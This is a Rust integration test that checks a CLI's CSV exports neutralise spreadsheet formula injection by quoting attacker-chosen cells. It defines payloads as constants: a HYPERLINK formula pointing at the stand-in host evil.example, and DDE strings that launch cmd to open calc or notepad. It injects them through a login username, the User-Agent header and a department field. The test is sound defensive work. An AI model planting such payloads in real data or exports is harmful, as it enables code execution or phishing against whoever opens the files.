//! What the CLI writes for spreadsheets: every CSV cell an attacker could choose is shown as
//! text, never run as a formula.

use twofold_testkit::{Env, stderr, stdout};

use crate::BIN;

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x","click")"#;
const DDE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const AGENT: &str = "+cmd|' /C notepad'!A0";

/// Every cell of a CSV document, row by row (the header included).
fn cells(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.as_bytes())
        .records()
        .map(|r| r.expect("valid CSV").iter().map(str::to_owned).collect())
        .collect()
}

/// Asserts that no cell of `csv` starts with a character that makes a spreadsheet read a
/// formula (a lone `-` and plain signed numbers are not formulas).
fn assert_no_formula(b: &str, what: &str, csv: &str) {
    for row in cells(csv) {
        for cell in row {
            assert!(
                !twofold_core::spreadsheet::is_formula_like(&cell),
                "{b}: {what} has a formula cell {cell:?}:\n{csv}"
            );
        }
    }
}

/// Attack: CSV formula injection. Without an account, an attacker posts the sign-in form
/// with the username `=HYPERLINK("http://evil.example/?x","click")` (and a DDE payload as
/// User-Agent); the failed attempt is audited with that name. Someone who can edit a
/// person's profile sets their department to `@SUM(1+1)*cmd|' /C calc'!A0`. An auditor then
/// opens `audit export --format csv` and `report compliance --format csv` in a
/// spreadsheet, which would run both as formulas. Every cell must come out as text: the
/// value kept, prefixed with `'`.
#[tokio::test]
async fn formula_payloads_in_usernames_and_departments_are_neutralised_in_every_csv() {
    for env in Env::all(BIN).await {
        let b = env.backend;
        let server = env.serve(&[]).await;
        let web = server.browser();
        let (csrf, _) = web.csrf("/login").await;
        let attempt = web
            .post(format!("{}/login", server.url))
            .header(reqwest::header::USER_AGENT, AGENT)
            .form(&[("username", HYPERLINK), ("password", "whatever-it-is"), ("csrf", &csrf)])
            .send()
            .await
            .unwrap();
        assert!(!attempt.status().is_server_error(), "{b}: {}", attempt.status());

        let out = env.cli(&["audit", "export", "--format", "csv"]);
        assert!(out.status.success(), "{b}: {}", stderr(&out));
        let export = stdout(&out);
        let rows = cells(&export);
        let name_column = rows[0].iter().position(|h| h == "actor_name").expect("actor_name column");
        // Usernames are kept in lower case; the payload works as well in a spreadsheet.
        let attacked: Vec<&Vec<String>> =
            rows.iter().filter(|r| r[name_column].to_lowercase().contains("hyperlink")).collect();
        assert!(!attacked.is_empty(), "{b}: the failed sign-in is audited with its username:\n{export}");
        for row in &attacked {
            assert_eq!(row[name_column].to_lowercase(), format!("'{HYPERLINK}").to_lowercase(), "{b}: kept, as text");
        }
        let agent_column = rows[0].iter().position(|h| h == "user_agent").expect("user_agent column");
        assert!(rows.iter().any(|r| r[agent_column] == format!("'{AGENT}")), "{b}: {export}");
        assert_no_formula(b, "audit export", &export);

        assert!(env.cli(&["group", "add", "ops"]).status.success(), "{b}");
        let added = env.cli(&["user", "add", "mallory", "--department", DDE, "--group", "ops"]);
        assert!(added.status.success(), "{b}: {}", stderr(&added));
        let file = env.path("campaign.toml");
        std::fs::write(
            &file,
            format!(
                "name = \"Rollout\"\ntarget = {{ percent = 95, within_days = 90 }}\n\n[[phase]]\nname = \"all\"\n\
                 cohort = {{ groups = [\"ops\"] }}\nstarts = \"{}\"\ndeadline = \"{}\"\ngrace_days = 5\n",
                env.date(-1),
                env.date(30)
            ),
        )
        .unwrap();
        let applied = env.cli(&["campaign", "apply", file.to_str().unwrap()]);
        assert!(applied.status.success(), "{b}: {}{}", stdout(&applied), stderr(&applied));

        let out = env.cli(&["report", "compliance", "--format", "csv"]);
        assert!(out.status.success(), "{b}: {}", stderr(&out));
        let report = stdout(&out);
        let rows = cells(&report);
        let department = rows[0].iter().position(|h| h == "department").expect("department column");
        let mallory = rows.iter().find(|r| r[0] == "mallory").unwrap_or_else(|| panic!("{b}: mallory: {report}"));
        assert_eq!(mallory[department], format!("'{DDE}"), "{b}");
        assert_no_formula(b, "report compliance", &report);

        // The admin verbs' CSV goes through the same writer.
        let out = env.cli(&["user", "list", "--format", "csv"]);
        assert!(out.status.success(), "{b}: {}", stderr(&out));
        assert_no_formula(b, "user list", &stdout(&out));
        let out = env.cli(&["report", "gaps", "--format", "csv"]);
        assert!(out.status.success(), "{b}: {}", stderr(&out));
        assert_no_formula(b, "report gaps", &stdout(&out));
    }
}
